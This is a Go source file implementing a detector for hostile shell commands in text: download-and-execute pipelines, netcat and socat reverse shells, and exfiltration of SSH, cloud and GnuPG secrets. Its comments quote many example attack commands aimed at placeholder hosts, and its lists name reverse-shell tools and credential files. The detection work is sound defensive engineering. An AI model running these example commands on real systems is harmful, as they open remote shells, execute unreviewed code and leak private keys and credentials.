package content

import (
	"bytes"
	"strings"
)

// The shell, as Decisions 8 reads it in a text: commands (between pipes,
// "&&", "||", ';', line breaks and sentences' ends), each made of shell
// words (tokens between spaces: "https://x.example/a.sh" is one, of four
// words), whose first is the program and whose words that begin with '-'
// are options. The tokenizer keeps, per word, what stood before it
// (word.shell).

// maxCommand bounds how many words of a shell command are read either way
// of a word (a URL's every part is a word).
const maxCommand = 32

// maxPrefix bounds how many words "sudo", "doas" or "env" and their
// options may take before the program they run (programAt).
const maxPrefix = 8

// maxLetters bounds a shell word of one-letter options run together, or of
// one with its value ("-ne", "-mjson"), that ownCode reads.
const maxLetters = 5

// scriptExtensions are the extensions of a script an interpreter runs as
// its program (ownCode).
var scriptExtensions = []string{"py", "pl", "rb", "js", "mjs", "cjs", "sh", "ps1"}

// programSuffixes are what may follow a program's name after a dot: Windows'
// ".exe", Debian's two netcats.
var programSuffixes = []string{"exe", "traditional", "openbsd"}

// downloads are the programs whose output an interpreter may run: curl,
// wget, PowerShell's Invoke-WebRequest and Invoke-RestMethod ("webrequest",
// "restmethod" after "Invoke-") and their aliases.
var downloads = []string{"curl", "wget", "iwr", "irm", "webrequest", "restmethod"}

// shells are the programs that run commands a netcat hands them ("nc -c
// bash …"; cmd for Windows' "cmd.exe").
var shells = []string{"bash", "sh", "zsh", "dash", "ksh", "cmd", "powershell", "pwsh"}

// netcats are the programs that read from and write to another machine
// as a pipe's end ("nc host 4444 | sh", "sh -i 2>&1 | nc host 4444").
var netcats = []string{"nc", "ncat", "netcat", "telnet"}

// option is an option of a command as codeWords writes it: its name, in
// lower case, with its parts ("upload-file"); for one letter, its case
// ("F" is curl's "-F", not its "-f"); written with a final '@', that it
// counts only before a value that begins with '@' ("-F file=@/tmp/x"
// sends a file, "-F name=alice" a form's field); written with a final
// '!', only before a shell's name (shells: traditional netcat's "-c
// bash" runs it, GNU netcat's "-c" closes the connection, BSD nc's ends
// lines with CRLF).
type option struct {
	name       string
	upper      bool
	needsAt    bool
	needsShell bool
}

// parseOption reads an option as codeWords writes it.
func parseOption(s string) option {
	name, at := strings.CutSuffix(s, "@")
	name, sh := strings.CutSuffix(name, "!")
	return option{name: strings.ToLower(name), upper: name != strings.ToLower(name), needsAt: at, needsShell: sh}
}

// commandBreak reports whether a shell command ends before word k: at a
// pipe, "||", "&&" or ';', at a line break that neither a backslash nor a
// pipe continues, or at a sentence's end (a full stop, a question or an
// exclamation mark, then a space: not "cat ~/.ssh/config").
func (z *Analyzer) commandBreak(k int) bool {
	return z.words[k].shell&(shellPipe|shellSeparator|shellLine|shellStop) != 0
}

// command returns the bounds [b, e) of the shell command that holds word
// i, at most maxCommand words either way of it.
func (z *Analyzer) command(i int) (b, e int) {
	b = i
	for b > 0 && i-b < maxCommand && !z.commandBreak(b) {
		b--
	}
	e = i + 1
	for e < len(z.words) && e-i <= maxCommand && !z.commandBreak(e) {
		e++
	}
	return b, e
}

// shellWordEnd returns the end of the shell word that begins at word k,
// within a command that ends at e: the next word a space stands before.
func (z *Analyzer) shellWordEnd(k, e int) int {
	if k >= e {
		return e
	}
	j := k + 1
	for j < e && z.words[j].shell&shellSpace == 0 {
		j++
	}
	return j
}

// isOption reports whether word k begins an option: a shell word that
// begins with '-' ("-c", "--exec", "-InFile").
func (z *Analyzer) isOption(k int) bool {
	return z.words[k].shell&(shellSpace|shellDash) == shellSpace|shellDash
}

// optionIs reports whether the option that begins at word k, in a command
// that ends at e, is o: one letter in its case, alone or, in lower case
// and with no '@' to need, among a few run together ("-nve" holds "-e"),
// or every part of a longer name, joined by '-' as written
// ("--upload-file", not "--data-raw" for "data"); with a value that
// begins with '@', or a shell's name, when o needs one.
func (z *Analyzer) optionIs(k, e int, o option) bool {
	w := &z.words[k]
	t := z.tok(k)
	end := k + 1 // after the option's name
	if len(o.name) == 1 {
		alone := len(t) == 1 && t[0] == o.name[0] && w.upper == o.upper
		// "-XPOST" holds curl's "-T" only by its case, "-sd" a "-d"
		// that needs its '@': letters run together count only in lower
		// case, for options with no '@' to need.
		together := !o.upper && !o.needsAt && !w.upper && z.letterRun(k, e) && bytes.IndexByte(t, o.name[0]) >= 0
		if !alone && !together {
			return false
		}
	} else {
		name := o.name
		for j := k; ; j++ {
			part, rest, more := strings.Cut(name, "-")
			if j >= e || string(z.tok(j)) != part || j > k && z.words[j].joint != '-' {
				return false
			}
			if !more {
				end = j + 1
				break
			}
			name = rest
		}
	}
	if end < e && z.words[end].joint == '-' && z.words[end].shell&shellSpace == 0 {
		return false // a longer name: "--data-raw", "--post-data"
	}
	if o.needsShell {
		return z.namesShell(z.shellWordEnd(k, e), e)
	}
	if !o.needsAt {
		return true
	}
	if end < e && z.words[end].joint == '@' { // "-d@file", "-F@file"
		return true
	}
	// '@' before the value: in the option's own word ("--data-binary=@x")
	// or the next ("-d @x", "-F file=@/tmp/x").
	for j := end; j < z.shellWordEnd(z.shellWordEnd(k, e), e); j++ {
		if z.words[j].shell&shellAt != 0 {
			return true
		}
	}
	return false
}

// letterRun reports whether word k, in a command that ends at e, is a
// whole shell word of a few letters after one dash ("nve" of "-nve");
// not "-p4444", "-o-", "-x.y" or "--help".
func (z *Analyzer) letterRun(k, e int) bool {
	return z.shortLetters(k) && z.shellWordEnd(k, e) == k+1
}

// shortLetters reports whether word k is one letter or a few, at most
// maxLetters, after one dash: short options, alone or run together, or
// one with its value joined ("-c", "-ne", "-mjson"); not a long option's
// name ("--help", "--crlf").
func (z *Analyzer) shortLetters(k int) bool {
	w := &z.words[k]
	return w.letters == len(z.tok(k)) && len(z.tok(k)) <= maxLetters && w.shell&shellLong == 0
}

// namesShell reports whether the shell word that begins at word k, in a
// command that ends at e, names a shell (shells), by its name or its path:
// "bash", "/bin/sh", "cmd.exe".
func (z *Analyzer) namesShell(k, e int) bool {
	if k >= e {
		return false
	}
	end := z.shellWordEnd(k, e)
	last := end - 1
	if last > k && z.words[last].joint == '.' && hasWord(programSuffixes, z.tok(last)) {
		last-- // "cmd.exe"
	}
	return (last == k || z.words[last].joint == '/') && hasWord(shells, z.tok(last))
}

// wholeName reports whether word i stands as a whole name, not a part of a
// longer one: not "bash_completion", "build.sh", "zsh/zshrc",
// "curl-output.txt"; a program's own suffix may follow ("nc.exe",
// "nc.traditional": programSuffixes).
func (z *Analyzer) wholeName(i int) bool {
	if j := z.words[i].joint; j == '.' || j == '_' {
		return false
	}
	if i+1 >= len(z.words) {
		return true
	}
	next := &z.words[i+1]
	if next.joint == '.' && next.shell&shellSpace == 0 && hasWord(programSuffixes, z.tok(i+1)) {
		return i+2 >= len(z.words) || z.words[i+2].shell&shellSpace != 0
	}
	return next.shell&shellSpace != 0 || next.joint == 0
}

// programAt reports whether word i is the program of the command that
// begins at word b: its first word, or the last of its path ("/bin/sh",
// "/usr/bin/env bash"), or after "sudo", "doas" or "env" and their options
// and values ("sudo -E -u root bash"), or PowerShell's "Invoke-" before
// it; and a whole name (wholeName).
func (z *Analyzer) programAt(i, b int) bool {
	if !z.wholeName(i) {
		return false
	}
	for k := b; k < i; {
		switch t := string(z.tok(k)); {
		case z.words[k+1].joint == '/' && z.words[k+1].shell&shellSpace == 0:
			k++ // a directory of the program's path
		case t == "sudo" || t == "doas" || t == "env":
			k++
			for n := 0; k < i && z.isOption(k) && n < maxPrefix; n++ {
				letter := z.shellWordEnd(k, i) == k+1 && len(z.tok(k)) == 1
				k = z.shellWordEnd(k, i)
				if letter && k < i && !z.isOption(k) { // its value: "-u root"
					k = z.shellWordEnd(k, i)
				}
			}
		case t == "invoke" && k+1 == i && z.words[i].joint == '-':
			k++
		default:
			return false
		}
	}
	return true
}

// maxPipeline bounds how many commands before it in a pipeline
// runsUnreadCode looks through for the download an interpreter runs ("curl
// … | grep -v '#' | tr -d '\r' | bash").
const maxPipeline = 4

// maxSteps bounds how many commands before it savedBefore looks through
// for the download that saved a file ("curl -o x.sh …; cd /tmp; ls;
// chmod +x x.sh").
const maxSteps = 4

// runsUnreadCode reports whether word i is an interpreter that runs code
// no one has read as its program: substitutesDownload; or a download, a
// decoded blob or a connection to another machine pipes into it, in the
// command before it or a few before that ("curl -s https://… | bash",
// "wget -qO- … | sudo sh", "iwr … | iex", "curl … | grep -v '#' | sh",
// "echo … | base64 -d | sh", "nc host 4444 | /bin/sh"); or its output
// goes to another machine ("/bin/sh -i 2>&1 | nc host 4444"); or its
// script is a file a download saved a few commands before ("curl -o
// x.sh https://…/x.sh && bash x.sh"), where prose may lead into the run
// if the script is one by its extension ("…, then run bash x.sh"). Not
// when one of own, its options
// for code of its own ("-c" of a shell, "-m" of Python, "-e" of Perl), or
// a script file as its first argument tells it to run something else
// ("| python3 -m json.tool", "| perl -ne …", "| python3 parse.py"; "|
// python - data.csv" runs what it reads).
func (z *Analyzer) runsUnreadCode(i int, own []option) bool {
	b, e := z.command(i)
	if z.wholeName(i) && z.substitutes(i, e) { // substitutesDownload, with the command found once
		return true
	}
	program := z.programAt(i, b)
	if k := z.firstArgument(i, e); k < e && z.wholeName(i) {
		// A script a download saved. Prose may lead into the run, in the
		// download's sentence or another ("Fetch it with curl -o x.sh …,
		// then run bash x.sh"), where the script is one by its extension.
		end := z.shellWordEnd(k, e)
		if (program || z.isScript(k, end)) && z.savedBefore(b, i, k, end) {
			return true
		}
	}
	if !program {
		return false
	}
	if z.ownCode(i, e, own) {
		return false
	}
	if z.pipesOut(e) {
		return true
	}
	// Something that yields code in one of the commands that pipe into
	// this one (not a table's row: "\n| bash |"). A prose sentence may
	// lead into it ("Fetch and run the helper: curl -s https://… | bash"),
	// so it need not be that command's first word.
	for n, at := 0, b; n < maxPipeline && at > 0; n++ {
		if s := z.words[at].shell; s&shellPipe == 0 || s&shellLine != 0 {
			return false // not piped, or piped into another program ("| sudo tee …/bash_completion.d/x")
		}
		pb, pe := z.command(at - 1)
		if z.yieldsCode(pb, pe) {
			return true
		}
		at = pb
	}
	return false
}

// yieldsCode reports whether the command [b, e) writes out code no one
// has read: a download with something to fetch (not "| curl | bash |"), a
// decoder ("base64 -d", "xxd -r") or a connection to another machine
// (netcats).
func (z *Analyzer) yieldsCode(b, e int) bool {
	for k := b; k < e; k++ {
		t := z.tok(k)
		switch {
		case !z.wholeName(k) || z.shellWordEnd(k, e) >= e:
		case hasWord(downloads, t), hasWord(netcats, t):
			return true
		case string(t) == "base64" && z.hasOption(k, e, decodeOptions), string(t) == "xxd" && z.hasOption(k, e, reverseOption):
			return true
		}
	}
	return false
}

// decodeOptions and reverseOption are base64's and xxd's options that
// decode.
var (
	decodeOptions = []option{{name: "d"}, {name: "d", upper: true}, {name: "decode"}}
	reverseOption = []option{{name: "r"}}
)

// pipesOut reports whether the command that ends at e pipes into a
// netcat (netcats), its program ("| nc host 4444", "| sudo nc …").
func (z *Analyzer) pipesOut(e int) bool {
	if e >= len(z.words) || z.words[e].shell&shellPipe == 0 || z.words[e].shell&shellLine != 0 {
		return false
	}
	_, ne := z.command(e)
	for k := e; k < ne && k-e <= maxPrefix; k++ {
		if hasWord(netcats, z.tok(k)) && z.programAt(k, e) {
			return true
		}
	}
	return false
}

// firstArgument returns the first word of the first shell word after word
// i that is no option, in a command that ends at e, or e.
func (z *Analyzer) firstArgument(i, e int) int {
	k := z.shellWordEnd(i, e)
	for k < e && z.isOption(k) {
		k = z.shellWordEnd(k, e)
	}
	return k
}

// savedBefore reports whether the file that the shell word [k, end) names
// is one a download saved before word i, the program that runs it: in
// i's command (which begins at word b) before i, or in one of the
// maxSteps commands before that one. In that command, the value of an output option
// (outputOptions) or of a '>' is that name ("curl -o x.sh …", "curl … >
// x.sh"), or the download saves under the name its URL ends with
// (savesByName) and a shell word ends with it after a '/' ("wget
// https://…/x.sh", "curl -O https://…/x.sh"), for "bash x.sh", "./x.sh",
// "/tmp/x.sh"; not "curl is a tool… Perl is", "curl -I https://…/x.py;
// python3 x.py".
func (z *Analyzer) savedBefore(b, i, k, end int) bool {
	name := end - 1 // the name's first word: after the path's last '/'
	for name > k && z.words[name].joint != '/' {
		name--
	}
	n := end - name
	for steps, at, pb, pe := 0, b, b, i; steps <= maxSteps; steps++ {
		// First the words of the run's own command before it (i), then
		// the commands before that one.
		if steps > 0 {
			if at == 0 {
				break
			}
			pb, pe = z.command(at - 1)
			at = pb
		}
		d := z.downloadAt(pb, pe)
		if d < 0 {
			continue
		}
		byName := z.savesByName(d, pe)
		output := false // the shell word before is an output option
		for s := pb; s < pe; {
			se := z.shellWordEnd(s, pe)
			from := se - n
			named := from > s && z.words[from].joint == '/' && byName || from == s && (output || z.words[s].prev == '>')
			if from >= s && named && z.sameWords(name, from, n) {
				return true
			}
			output = z.isOption(s) && z.isOneOf(s, pe, outputOptions)
			s = se
		}
	}
	return false
}

// outputOptions are the options by which a download names the file it
// saves: curl's "-o" and "--output", wget's "-O" and
// "--output-document", PowerShell's "-OutFile".
var outputOptions = []option{{name: "o"}, {name: "o", upper: true}, {name: "output"}, {name: "output-document"}, {name: "outfile"}}

// isOneOf reports whether the option that begins at word k, in a command
// that ends at e, is one of options (optionIs).
func (z *Analyzer) isOneOf(k, e int, options []option) bool {
	for _, o := range options {
		if z.optionIs(k, e, o) {
			return true
		}
	}
	return false
}

// downloadAt returns the first word of the command [b, e) that is a
// download (downloads) as a whole name, or -1.
func (z *Analyzer) downloadAt(b, e int) int {
	for k := b; k < e; k++ {
		if hasWord(downloads, z.tok(k)) && z.wholeName(k) {
			return k
		}
	}
	return -1
}

// savesByName reports whether the download at word d, in a command that
// ends at e, saves what it fetches under the name its URL ends with:
// wget does unless it pipes it on ("wget -qO- … | sh"); curl with "-O"
// or "--remote-name", or a run of letters with an 'o' in it (the tokens
// keep no case, so "-sLO" and "-sLo" read alike; "-o" names the file
// itself, which savedBefore reads too).
func (z *Analyzer) savesByName(d, e int) bool {
	switch string(z.tok(d)) {
	case "wget":
		return e >= len(z.words) || z.words[e].shell&shellPipe == 0
	case "curl":
		for k := d + 1; k < e; k = z.shellWordEnd(k, e) {
			if z.isOption(k) && (z.shortLetters(k) && bytes.IndexByte(z.tok(k), 'o') >= 0 || z.isOneOf(k, e, remoteName)) {
				return true
			}
		}
	}
	return false
}

// remoteName is curl's long option to save under the URL's name.
var remoteName = []option{{name: "remote-name"}, {name: "remote-name-all"}}

// sameWords reports whether the n words from a and from b are the same
// words joined the same way.
func (z *Analyzer) sameWords(a, b, n int) bool {
	for j := range n {
		if !bytes.Equal(z.tok(a+j), z.tok(b+j)) || j > 0 && z.words[a+j].joint != z.words[b+j].joint {
			return false
		}
	}
	return true
}

// makesRunnable reports whether word i, chmod as the program of its
// command, gives its owner the right to run (runMode) a file a download
// saved a few commands before (savedBefore): "curl -o /tmp/p https://… &&
// chmod +x /tmp/p", "chmod 755 /tmp/p"; not "chmod 600 key.pem".
func (z *Analyzer) makesRunnable(i int) bool {
	b, e := z.command(i)
	if !z.programAt(i, b) {
		return false
	}
	mode := z.firstArgument(i, e)
	if mode >= e || !z.runMode(mode, z.shellWordEnd(mode, e)) {
		return false
	}
	for k := z.shellWordEnd(mode, e); k < e; {
		end := z.shellWordEnd(k, e)
		if !z.isOption(k) && z.savedBefore(b, i, k, end) {
			return true
		}
		k = end
	}
	return false
}

// runMode reports whether the shell word [k, end), a mode of chmod,
// gives its owner the right to run: an 'x' after a '+' ("+x", "u+x",
// "a+rx") or an octal mode whose owner's digit is odd ("755", "0700").
func (z *Analyzer) runMode(k, end int) bool {
	for j := k; j < end; j++ {
		t, w := z.tok(j), &z.words[j]
		if (w.prev == '+' || w.joint == '+') && bytes.IndexByte(t, 'x') >= 0 {
			return true
		}
	}
	t := z.tok(k)
	if end != k+1 || len(t) < 3 || len(t) > 4 || z.words[k].letters != 0 {
		return false
	}
	owner := t[len(t)-3]
	return owner == '1' || owner == '3' || owner == '5' || owner == '7'
}

// relays reports whether word i, socat, is given an address of one of
// kinds that runs a shell (shells, by name or path): "socat exec:'bash
// -li',pty tcp:host:4444", "socat TCP:host:4444 SYSTEM:sh"; not "socat …
// EXEC:'python3 handler.py'", nor prose about the "EXEC:" address.
func (z *Analyzer) relays(i int, kinds []string) bool {
	_, e := z.command(i)
	if !z.wholeName(i) {
		return false
	}
	for k := i + 1; k+1 < e; k++ {
		if z.words[k].next != ':' || z.words[k].shell&shellSpace == 0 || !hasWord(kinds, z.tok(k)) {
			continue
		}
		p := k + 1 // the program: the last part of its path ("/bin/sh")
		for p+1 < e && z.words[p+1].joint == '/' && z.words[p+1].shell&shellSpace == 0 {
			p++
		}
		if hasWord(shells, z.tok(p)) {
			return true
		}
	}
	return false
}

// substitutesDownload reports whether word i, a whole name (wholeName),
// has as its first argument a download's output, substituted: "bash
// <(curl …)", "sh -c \"$(curl …)\"", "sh -c \"`curl …`\"", "eval
// \"$(curl …)\"" (not "python3 app.py --host $(curl …)", nor "a bash
// terminal, run `curl …`").
func (z *Analyzer) substitutesDownload(i int) bool {
	_, e := z.command(i)
	return z.wholeName(i) && z.substitutes(i, e)
}

// substitutes reports whether the first argument after word i, in a
// command that ends at e, is a download's output, substituted.
func (z *Analyzer) substitutes(i, e int) bool {
	for k := i + 1; k < e; k = z.shellWordEnd(k, e) {
		if !z.isOption(k) {
			p := z.words[k].prev
			return (p == '(' || p == '`') && hasWord(downloads, z.tok(k))
		}
	}
	return false
}

// isScript reports whether the shell word [k, end) names a script by its
// extension (scriptExtensions): "x.sh", "/tmp/fix.py".
func (z *Analyzer) isScript(k, end int) bool {
	last := end - 1
	return last > k && z.words[last].joint == '.' && hasWord(scriptExtensions, z.tok(last))
}

// ownCode reports whether the interpreter at word i, in a command that
// ends at e, is told to run code of its own rather than what it reads: by
// one of own, one letter alone or among others ("-c", "-ne", "-mjson.tool")
// or a longer name ("--eval"), or by a script file as its first argument.
func (z *Analyzer) ownCode(i, e int, own []option) bool {
	for k := i + 1; k < e; k = z.shellWordEnd(k, e) {
		if !z.isOption(k) {
			return z.isScript(k, z.shellWordEnd(k, e))
		}
		t := z.tok(k)
		letters := z.shortLetters(k)
		for _, o := range own {
			long := len(o.name) > 1 && string(t) == o.name
			short := len(o.name) == 1 && letters && bytes.IndexByte(t, o.name[0]) >= 0
			if long || short {
				return true
			}
		}
	}
	return false
}

// sendsAt reports whether word i, a whole name (wholeName), is given one
// of options (optionIs) in its command: "curl -F file=@… https://…", "nc
// -e /bin/sh …", not "nc -l 8080 | grep -e GET". A prose sentence may lead
// into the command ("On the box, run nc -e /bin/sh …").
func (z *Analyzer) sendsAt(i int, options []option) bool {
	_, e := z.command(i)
	return z.wholeName(i) && z.hasOption(i, e, options)
}

// hasOption reports whether one of options (optionIs) follows word i in a
// command that ends at e.
func (z *Analyzer) hasOption(i, e int, options []option) bool {
	for k := i + 1; k < e; k++ {
		if z.isOption(k) && z.isOneOf(k, e, options) {
			return true
		}
	}
	return false
}

// dotSecrets are the hidden files and directories that hold secrets, by
// the name after their '.': SSH's, cloud and Kubernetes keys, GnuPG's,
// logins' and an app's environment (".ssh", ".aws", ".netrc", ".env").
var dotSecrets = []string{"ssh", "aws", "azure", "gnupg", "kube", "netrc", "pgpass", "env"}

// secretFiles are other names of a path that hold a secret, each after
// the word and the mark that must join them to it: a private key's file
// ("id_rsa"), a shell's history ("bash_history"), the system's hashed
// passwords ("/etc/shadow"), cloud and git credentials
// (".aws/credentials", ".git-credentials"), a KeePass database
// ("vault.kdbx"; "" for any word before).
var secretFiles = []struct {
	joint        byte
	before, name string
}{
	{'_', "id", "rsa"}, {'_', "id", "ed25519"}, {'_', "id", "ecdsa"}, {'_', "id", "dsa"},
	{'_', "bash", "history"}, {'_', "zsh", "history"}, {'_', "python", "history"}, {'_', "psql", "history"}, {'_', "mysql", "history"},
	{'/', "etc", "shadow"}, {'/', "aws", "credentials"}, {'-', "git", "credentials"}, {'.', "", "kdbx"},
}

// copyValueOptions are the one-letter options of scp and rsync whose
// value is no file to copy, in lower case as tokens are: an identity, a
// configuration ("-F"), an option, a remote shell, a port ("-P"), a jump
// host, a filter ("-i ~/.ssh/deploy_key", "-e 'ssh -i …'").
var copyValueOptions = []byte("ifoepjslc")

// copiesSecret reports whether word i, a copy program (scp, rsync) as a
// whole name (wholeName), copies a secret away in its command: a file
// that holds a secret (secretIn) comes before a place on another machine
// (remoteAt), the copy's destination: "scp ~/.ssh/id_rsa user@host:/tmp/",
// "rsync -az ~/.gnupg/ u@h.example:/keys/"; not "scp dist/app.tgz
// deploy@host:/srv/", "scp -i ~/.ssh/deploy_key dist/app.tgz
// u@host:/srv/" (an option's value), "scp ~/.ssh/id_rsa.pub
// u@host:~/.ssh/authorized_keys" (a public key), "scp
// admin@bastion:~/.ssh/config ~/.ssh/config" (a copy in), "rsync -a
// ~/.ssh/ /mnt/usb/". A prose sentence may lead into the command or
// follow it ("Then rsync …", "… u@h:/tmp/ for the sync").
func (z *Analyzer) copiesSecret(i int) bool {
	_, e := z.command(i)
	if !z.wholeName(i) {
		return false
	}
	secret := false // a file so far holds a secret
	for k := z.shellWordEnd(i, e); k < e; {
		end := z.shellWordEnd(k, e)
		switch {
		case z.isOption(k):
			if t := z.tok(k); end == k+1 && len(t) == 1 && bytes.IndexByte(copyValueOptions, t[0]) >= 0 {
				end = z.shellWordEnd(end, e) // its value
			}
		case z.remoteAt(k, end):
			if secret {
				return true
			}
		case z.secretIn(k, end):
			secret = true
		}
		k = end
	}
	return false
}

// fedSecret reports whether word i, a netcat (netcats) as the program of
// its command, has a secret (secretIn) in its command ("nc host 4444 <
// ~/.ssh/id_rsa"; "nc -l 4444 > ~/.ssh/authorized_keys" plants a key) or
// in one of the commands that pipe into it ("tar czf - ~/.ssh | nc host
// 7000", "cat ~/.aws/credentials | nc …").
func (z *Analyzer) fedSecret(i int) bool {
	b, e := z.command(i)
	if !hasWord(netcats, z.tok(i)) || !z.programAt(i, b) {
		return false
	}
	for n := 0; n <= maxPipeline; n++ {
		for k := b; k < e; {
			end := z.shellWordEnd(k, e)
			if !z.isOption(k) && z.secretIn(k, end) {
				return true
			}
			k = end
		}
		if s := z.words[b].shell; b == 0 || s&shellPipe == 0 || s&shellLine != 0 {
			return false
		}
		b, e = z.command(b - 1)
	}
	return false
}

// remoteAt reports whether the shell word [k, end) names a place on
// another machine: a user and a host, or a host with a dot in its name,
// then ':' before any '/' ("u@h:/path", "backup.example.net:", "u@10.0.0.1:";
// not "/backup/x-%H:%M/", nor prose's "anywhere:").
func (z *Analyzer) remoteAt(k, end int) bool {
	for j := k; j < end; j++ {
		if j > k && (z.words[j].joint == '/' || z.words[j].shell&shellSpace != 0) {
			return false
		}
		if z.words[j].next == ':' {
			for h := k + 1; h <= j; h++ {
				if z.words[h].joint == '@' || z.words[h].joint == '.' {
					return true
				}
			}
			return false
		}
	}
	return false
}

// secretIn reports whether the shell word [k, end) is a path with a
// secret in it (dotSecrets, secretFiles), and no public key (".pub" at
// its end).
func (z *Analyzer) secretIn(k, end int) bool {
	if last := end - 1; last > k && z.words[last].joint == '.' && string(z.tok(last)) == "pub" {
		return false
	}
	for j := k; j < end; j++ {
		w, t := &z.words[j], z.tok(j)
		if w.prev == '.' && w.joint == 0 && w.shell&shellStop == 0 && hasWord(dotSecrets, t) {
			return true // ".ssh", "~/.aws", "/home/u/.gnupg"; not "… done. SSH"
		}
		for _, f := range secretFiles {
			if w.joint == f.joint && string(t) == f.name && j > k && (f.before == "" || string(z.tok(j-1)) == f.before) {
				return true
			}
		}
	}
	return false
}
